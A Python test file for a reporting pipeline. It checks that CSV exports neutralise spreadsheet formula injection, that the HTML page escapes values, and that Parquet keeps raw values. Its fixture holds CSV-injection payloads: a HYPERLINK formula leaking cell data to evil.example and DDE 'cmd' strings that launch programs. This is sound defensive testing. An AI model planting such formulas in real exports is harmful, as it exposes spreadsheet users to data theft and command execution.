"""Issue 10, outputs: a CSV export never hands a spreadsheet a formula (OWASP's advice for
CSV injection), whatever an issuer or a place stated in a sidecar says; the HTML page still
escapes what it shows; the Parquet export keeps the values as they are."""

import csv
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines.reporting.export import export_marts, neutralised
from pipelines.reporting.report_page import render
from tests.conftest import RAW_DIR, SEED_WUQING, refresh

FORMULAS = {
    "equals.txt": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus.txt": "+1+cmd|' /C calc'!A0",
    "minus.txt": "-2+3",
    "at.txt": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fullwidth.txt": "＝1+1",
}


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    root = tmp_path_factory.mktemp("outputs")
    raw = root / "raw"
    raw.mkdir()
    seed = (RAW_DIR / SEED_WUQING).read_text(encoding="utf-8")
    for index, (name, issuer) in enumerate(sorted(FORMULAS.items())):
        (raw / name).write_text(seed + f"\n({index})\n", encoding="utf-8")
        (raw / f"{name}.meta.json").write_text(
            json.dumps({"issuer": issuer, "jurisdiction": issuer}, ensure_ascii=False),
            encoding="utf-8",
        )
    warehouse = refresh(raw, root)[1].warehouse_path
    export_marts(warehouse, root / "export")
    return warehouse, root / "export"


def test_no_csv_cell_starts_like_a_formula(exported):
    _, folder = exported
    cells = 0
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝", "＋", "＠")), (
                        path.name,
                        cell,
                    )
                    assert not (cell.startswith("-") and not _number(cell)), (path.name, cell)
    assert cells > 0


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_the_stated_issuers_are_kept_behind_a_quote(exported):
    _, folder = exported
    with (folder / "mart_report_summary.csv").open(encoding="utf-8", newline="") as handle:
        issuers = {row["issuer"] for row in csv.DictReader(handle)}
    assert issuers == {"'" + issuer for issuer in FORMULAS.values()}


def test_the_parquet_export_keeps_the_values(exported):
    _, folder = exported
    issuers = set(
        pq.read_table(folder / "mart_report_summary.parquet").column("issuer").to_pylist()
    )
    assert issuers == set(FORMULAS.values())


def test_numbers_and_ordinary_text_are_untouched():
    table = pa.table({"text": ["正常", "a=b", None, "-", "'=x"], "number": [-1, 2, 3, -4, 5]})
    assert neutralised(table).to_pydict() == {
        "text": ["正常", "a=b", None, "'-", "'=x"],
        "number": [-1, 2, 3, -4, 5],
    }


def test_the_html_page_still_escapes_them(exported):
    warehouse, _ = exported
    page = render(warehouse)
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)" in page
    assert '"http://evil.example/?x="&A1' not in page
